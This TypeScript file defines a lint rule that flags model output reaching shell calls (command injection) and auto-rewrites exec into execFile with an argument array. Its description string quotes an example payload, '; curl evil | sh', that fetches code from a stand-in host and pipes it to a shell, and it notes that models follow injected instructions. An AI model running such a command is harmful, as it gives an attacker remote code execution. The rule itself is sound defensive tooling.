import { addChildProcessImport, isChildProcessCallee, stillRunsCode, templateWords } from "./exec-rewrite";
import { modelOutputRule } from "./output-sink-rule";

export default modelOutputRule({
  id: "llm-output-command-injection",
  sink: "shell",
  meta: {
    description: "Report model-controlled data that reaches a shell (exec, spawn with shell, bash -c, execa shell, zx)",
    severity: "error", surveySection: "6.2.2", owaspLlm2026: ["LLM10"], owaspAgentic: ["ASI05"], cwe: ["CWE-78", "CWE-77"], atlas: ["AML.T0050"],
    hasSuggestions: true,
    why: "Shell metacharacters in model output (`; curl evil | sh`) run as commands. Models follow injected instructions, so treat their output as attacker-controlled.",
  },
  consequence: "shell metacharacters in it run as commands. Use execFile/spawn with a fixed program and an argument array (no shell), and allow-list the arguments.",
  fixes(hit, ctx) {
    const c = hit.detail.container;
    if (!c || !hit.detail.api || !/^(\w+\.)?exec(Sync)?$/.test(hit.detail.api)) return [];
    const words = templateWords(ctx.text(hit.file, hit.start, hit.end));
    // A shell, an interpreter or a wrapper as the program would still run the model's text as code.
    if (!words || stillRunsCode(words.program, words.words)) return [];
    const program = ctx.ast(hit.file);
    if (!program) return [];
    const call = ctx.text(hit.file, c.start, c.end);
    const fn = /Sync$/.test(hit.detail.api) ? "execFileSync" : "execFile";
    const open = call.indexOf("(");
    const callee = call.slice(0, open).trim();
    // Only child_process's own exec: a wrapper (promisify(exec)) returns something else than execFile.
    if (!isChildProcessCallee(program, c.start, callee)) return [];
    // What follows the command in the call: options, callback, the closing parenthesis.
    const rest = call.slice(hit.end - c.start);
    const edits = [{ range: { start: c.start, end: c.end }, text: `${callee.replace(/exec(Sync)?$/, fn)}(${JSON.stringify(words.program)}, [${words.args.join(", ")}]${rest}` }];
    if (!callee.includes(".")) {
      // execFile must mean child_process's execFile at the call: no local of that name in scope.
      const imp = addChildProcessImport(program, c.start, callee, fn);
      if (!imp) return [];
      if (imp.text || imp.end > imp.start) edits.unshift({ range: { start: imp.start, end: imp.end }, text: imp.text });
    }
    return [{
      title: `Replace \`${hit.detail.api}(\`${words.program} …\`)\` with \`${fn}("${words.program}", [...])\` (no shell)`,
      suggestion: true,
      edits,
    }];
  },
});
